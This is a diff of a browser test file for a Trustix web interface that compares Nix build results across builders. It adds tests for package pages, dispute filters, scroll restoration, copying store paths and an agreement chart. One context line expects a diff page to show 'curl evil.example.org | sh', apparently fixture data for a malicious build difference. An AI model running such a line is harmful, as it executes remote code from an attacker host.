@@ -67,7 +67,11 @@ describe.skipIf(CHROMIUM === undefined)("in Chromium", () => {
     ["packages", "and more on the next page"],
     ["packages?q=openssl&status=reproducible", "openssl"],
     ["packages?q=nothing-has-this-name", "No path is like that"],
+    ["package/motd", "In the list of all paths"],
+    ["package/no-such-package", "Search for names that have it in them"],
     ["disputes", "what differs"],
+    ["disputes?operator=chuck&kind=majority", "what differs"],
+    ["disputes?operator=chuck&kind=conflicting", "No dispute is like that"],
     [`diff/${world.hashPartOf(COMPARED)}`, "curl evil.example.org | sh"],
     [`path/${world.hashPartOf(COMPARED)}`, "2 different statements"],
     ["logs", "quarantined"],
@@ -234,6 +238,80 @@ describe.skipIf(CHROMIUM === undefined)("in Chromium", () => {
     await page.goBack();
     await page.getByRole("heading", { name: "Packages", level: 1 }).waitFor();
     expect(await page.getByRole("searchbox").inputValue()).toBe("motd");
+  });
+
+  test("from a search one comes to the package, which has the votes of all builders, and to its paths and back", async () => {
+    await using opened = await openPage(browser);
+    const { page, problems } = opened;
+    await page.goto(url("packages?q=motd"));
+    await settled(page);
+    await page.getByRole("link", { name: "motd", exact: true }).click();
+    await page.getByRole("heading", { name: "motd", level: 1 }).waitFor();
+    await expect.poll(() => page.title()).toBe("motd · Trustix");
+    expect(await page.locator("thead th.vote").allTextContents()).toEqual(["alice", "bob", "chuck"]);
+    expect(await page.locator("tbody td.vote .mark").allTextContents()).toEqual(["✓", "✓", "≠"]);
+    await page.getByRole("link", { name: COMPARED }).click();
+    await expect.poll(() => page.title()).toBe(`${COMPARED} · Trustix`);
+    await page.getByRole("link", { name: "motd", exact: true }).click();
+    await page.getByRole("heading", { name: "motd", level: 1 }).waitFor();
+    expect(problems).toEqual([]);
+  });
+
+  test("disputes can be narrowed to those of a builder, and say how many there are", async () => {
+    await using opened = await openPage(browser);
+    const { page } = opened;
+    await page.goto(url("disputes"));
+    await settled(page);
+    await page.getByText(/^\d+ paths, [\d.]+ % of those that two or more have built\.$/).waitFor();
+    const all = await page.locator("tbody tr").count();
+    await page.getByLabel("Against the others").selectOption("chuck");
+    await expect.poll(() => page.locator("tbody tr").count()).toBeLessThanOrEqual(all);
+    expect(new URL(page.url()).searchParams.get("operator")).toBe("chuck");
+    await page.getByLabel("Class").selectOption("split");
+    await expect.poll(() => page.locator("tbody").getByText("majority", { exact: true }).count()).toBe(0);
+  });
+
+  test("the back button leads to where the reader was on the page", async () => {
+    await using opened = await openPage(browser);
+    const { page } = opened;
+    await page.goto(url("packages"));
+    await settled(page);
+    const link = page.locator("tbody tr").nth(45).locator("a");
+    await link.scrollIntoViewIfNeeded();
+    const top = await page.evaluate(() => scrollY);
+    expect(top).toBeGreaterThan(300);
+    await link.click();
+    await page.getByRole("heading", { name: "Decision of this node" }).waitFor();
+    expect(await page.evaluate(() => scrollY)).toBe(0);
+    await page.goBack();
+    await page.getByRole("heading", { name: "Packages", level: 1 }).waitFor();
+    await expect.poll(() => page.evaluate(() => scrollY)).toBe(top);
+    await page.getByRole("link", { name: "Next" }).click();
+    await expect.poll(() => page.evaluate(() => scrollY)).toBe(0);
+  });
+
+  test("a store path is copied with a click", async () => {
+    await using opened = await openPage(browser, { permissions: ["clipboard-read", "clipboard-write"] });
+    const { page } = opened;
+    await page.goto(url(`path/${world.hashPartOf(COMPARED)}`));
+    await page.getByRole("button", { name: "Copy the store path" }).click();
+    await page.getByText("Copied").waitFor();
+    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
+      `/nix/store/${world.hashPartOf(COMPARED)}-${COMPARED}`,
+    );
+  });
+
+  test("agreement over time is shown as shares and as counts", async () => {
+    await using opened = await openPage(browser);
+    const { page } = opened;
+    await page.goto(url(""));
+    const chart = page.locator(".panel").filter({ hasText: "Agreement over time" });
+    await chart.getByText(/Reproducible \d+\.\d %/).waitFor();
+    await chart.getByRole("button", { name: "as shares" }).click();
+    await chart
+      .locator(".legend")
+      .getByText(/Reproducible \d+$/)
+      .waitFor();
   });
 
   test("the reader's choice of colours is kept", async () => {
